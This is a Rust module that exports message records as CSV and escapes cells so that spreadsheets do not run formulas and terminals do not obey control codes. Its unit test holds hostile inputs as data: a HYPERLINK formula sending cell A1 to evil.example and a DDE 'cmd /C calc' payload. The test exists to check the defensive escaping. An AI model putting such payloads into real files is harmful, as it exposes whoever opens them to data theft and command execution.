//! CSV output: a record as a row of cells that a spreadsheet treats as text.

use std::io::Write;

use chrono::SecondsFormat;

use crate::record::Record;
use crate::record::people::KnownSender;
use crate::text;
use crate::weibo::{Kind, UserId};

/// The titles of the columns: the JSON fields without `raw`, which is in `text` for unreadable messages, and
/// without `account`, which follows them only if there are several.
const TITLES: [&str; 11] = [
    "seq",
    "type",
    "receiver_id",
    "sender_id",
    "created_at",
    "sent_at",
    "received_at",
    "text",
    "data",
    "verified",
    "deliveries",
];
/// The labels and what is known of the sender, after all other columns: these were written by people, and may
/// be empty. New columns come last.
const KNOWN: [&str; 6] = ["sender_name", "sender_alias", "sender_note", "sender_labels", "labels", "sender_muted"];
/// Makes Excel read the file as UTF-8.
const BYTE_ORDER_MARK: &[u8] = b"\xef\xbb\xbf";
/// Characters that begin a formula, in ASCII and as Chinese input methods write them.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// The form of the CSV.
#[derive(Debug, Clone, Copy)]
pub(super) struct Csv {
    /// Whether there is a column for the account.
    pub(super) has_accounts: bool,
    /// How cells are escaped.
    pub(super) cells: CsvCells,
}

/// How cells are escaped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum CsvCells {
    /// Neither spreadsheets nor terminals interpret them.
    Harmless,
    /// Terminals do not interpret them.
    Drawable,
    /// Unchanged, for programs.
    Raw,
}

impl Csv {
    /// Writes the row of titles.
    pub(super) fn begin(self, mut out: impl Write) -> anyhow::Result<()> {
        if self.cells == CsvCells::Harmless {
            out.write_all(BYTE_ORDER_MARK)?;
        }
        let account = self.has_accounts.then_some("account");
        csv::Writer::from_writer(out).write_record(TITLES.into_iter().chain(account).chain(KNOWN)).map_err(error)
    }

    /// Renders the rows of some records.
    pub(super) fn rows(self, records: &[Record]) -> anyhow::Result<Vec<u8>> {
        let mut rows = Vec::new();
        let mut csv = csv::Writer::from_writer(&mut rows);
        for record in records {
            let account = self.has_accounts.then(|| record.account.clone());
            let cells = cells(record).into_iter().chain(account).chain(known(record));
            let cells = cells.map(|cell| match self.cells {
                CsvCells::Harmless => harmless(&cell),
                CsvCells::Drawable => text::portable(&cell).into_owned(),
                CsvCells::Raw => cell,
            });
            csv.write_record(cells).map_err(error)?;
        }
        csv.flush()?;
        drop(csv);
        Ok(rows)
    }
}

fn cells(record: &Record) -> [String; 11] {
    let message = &record.message;
    let id = |id: Option<UserId>| id.map_or_else(String::new, |id| id.to_string());
    let is_unreadable = message.kind() == Kind::Unreadable;
    let text = if is_unreadable { String::from_utf8_lossy(&record.raw).into_owned() } else { message.text.clone() };
    [
        record.seq.to_string(),
        message.type_name.clone(),
        id(message.receiver_id),
        id(message.sender_id),
        message.created_at.clone(),
        record.sent_at().to_rfc3339(),
        record.received_at.to_rfc3339_opts(SecondsFormat::Millis, true),
        text,
        serde_json::Value::Object(message.data.clone()).to_string(),
        record.verified.to_string(),
        record.deliveries.to_string(),
    ]
}

fn known(record: &Record) -> [String; 6] {
    let KnownSender { window_until: _, is_muted, nickname, name, note, labels, draft: _ } = &record.sender;
    let [of_sender, own] = [labels, &record.marks.labels].map(|labels| labels.join(","));
    [nickname.clone(), name.clone(), note.clone(), of_sender, own, is_muted.to_string()]
}

/// Returns a cell in which a terminal obeys nothing and a spreadsheet runs nothing: an apostrophe precedes
/// whatever begins like a formula. A line break starts a new cell, and so do a semicolon and a tab, at which
/// some spreadsheets split.
fn harmless(cell: &str) -> String {
    let drawable = text::portable(cell);
    let mut harmless = String::with_capacity(drawable.len());
    let mut is_start = true;
    for c in drawable.chars() {
        if is_start && FORMULA.contains(&c) {
            harmless.push('\'');
        }
        harmless.push(c);
        is_start = matches!(c, ';' | '；')
            || c.is_whitespace() && (is_start || matches!(c, '\n' | '\t'))
            || is_start && c == '"';
    }
    harmless
}

/// Returns the inner I/O error, so that a closed pipe is recognized; the outer error would be of kind
/// `Other`.
fn error(error: csv::Error) -> anyhow::Error {
    let words = error.to_string();
    if let csv::ErrorKind::Io(source) = error.into_kind() { source.into() } else { anyhow::Error::msg(words) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_begins_like_a_formula_does_not_any_more_and_the_rest_stays() {
        for (cell, expected) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"退款\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"退款\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("-2+3", "'-2+3"),
            ("＝1+1", "'＝1+1"),
            ("  =1", "  '=1"),
            ("\"=1", "\"'=1"),
            ("a\n=1", "a\n'=1"),
            ("a\r=1", "a\n'=1"),
            ("a;=1", "a;'=1"),
            ("a; -1", "a; '-1"),
            ("\u{feff}=1", "⟨FEFF⟩=1"),
            ("\u{1b}[31m=1", "␛[31m=1"),
            ("1+1 = 2 - @小王", "1+1 = 2 - @小王"),
            ("{\"key\":\"=1\"}", "{\"key\":\"=1\"}"),
            ("👩‍💻 你好", "👩‍💻 你好"),
        ] {
            assert_eq!(harmless(cell), expected, "{cell:?}");
        }
    }
}
